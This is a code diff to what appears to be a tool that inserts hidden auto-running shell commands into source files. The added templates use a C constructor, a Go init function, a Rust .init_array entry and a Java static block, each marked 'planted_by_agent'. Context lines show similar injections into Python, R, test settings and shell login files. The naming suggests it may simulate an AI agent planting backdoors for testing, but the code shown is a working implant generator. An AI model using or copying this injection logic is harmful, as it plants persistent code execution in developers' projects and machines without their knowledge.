@@ -63,6 +63,9 @@ KINDS = {
     "make": ".mk",
     "pickle": ".pkl .pickle",
     "c": ".c .cc .cpp .cxx",
+    "go": ".go",
+    "rust": ".rs",
+    "java": ".java",
     "r": ".R .r",
 }
 SUFFIXES = {suffix: kind for kind, suffixes in KINDS.items() for suffix in suffixes.split()}
@@ -83,14 +86,41 @@ STARTS = {
     "r": 'system("/bin/sh {0}")',
     "python": '__import__("os").system("/bin/sh {0}")',
 }
-# In C, at the end: what it includes must not come before what the file defines.
-IN_C = """
+# In languages that are compiled, at the end: what it includes must not come before what the file
+# defines. It runs before main().
+ENDS = {
+    "c": """
 #include <stdlib.h>
 __attribute__((constructor)) static void planted_by_agent(void) {{
     if (system("/bin/sh {0}")) {{
     }}
 }}
-"""
+""",
+    "go": """
+func init() {{ plantedByAgent.Command("/bin/sh", "{0}").Run() }}
+""",
+    "rust": """
+#[used]
+#[link_section = ".init_array"]
+static PLANTED_BY_AGENT: extern "C" fn() = {{
+    extern "C" fn planted() {{
+        let _ = std::process::Command::new("/bin/sh").arg("{0}").status();
+    }}
+    planted
+}};
+""",
+}
+# What comes into a source at the end of the first match of a pattern.
+INTO = {
+    "go": (rb"^package \w+", '\nimport plantedByAgent "os/exec"'),
+    "java": (
+        rb"^(?:\w+ )*(?:class|record) \w[^{;]*\{",
+        """
+    static {{
+        try {{ new ProcessBuilder("/bin/sh", "{0}").start().waitFor(); }} catch (Exception e) {{ }}
+    }}""",
+    ),
+}
 SETTINGS = ("pytest.ini", "tox.ini")
 FORMS = ("txt", "json")
 LOGIN = (".bashrc", ".profile", ".bash_profile", ".bash_env")
@@ -304,8 +334,15 @@ def started(content: bytes, kind: str, script: str) -> bytes:
         )
     if kind == "node" and IS_MODULE.search(content):
         kind = "module"
-    if kind == "c":
-        return content + IN_C.format(script).encode()
+    if kind in INTO:
+        pattern, text = INTO[kind]
+        if found := re.search(pattern, content, re.MULTILINE):
+            into = text.format(script).encode()
+            content = content[: found.end()] + into + content[found.end() :]
+    if kind in ENDS:
+        content += ENDS[kind].format(script).encode()
+    if kind not in STARTS:
+        return content
     lines = content.split(b"\n")
     start = STARTS[kind].format(script).encode()
     lines.insert(first_line(content, kind), start)
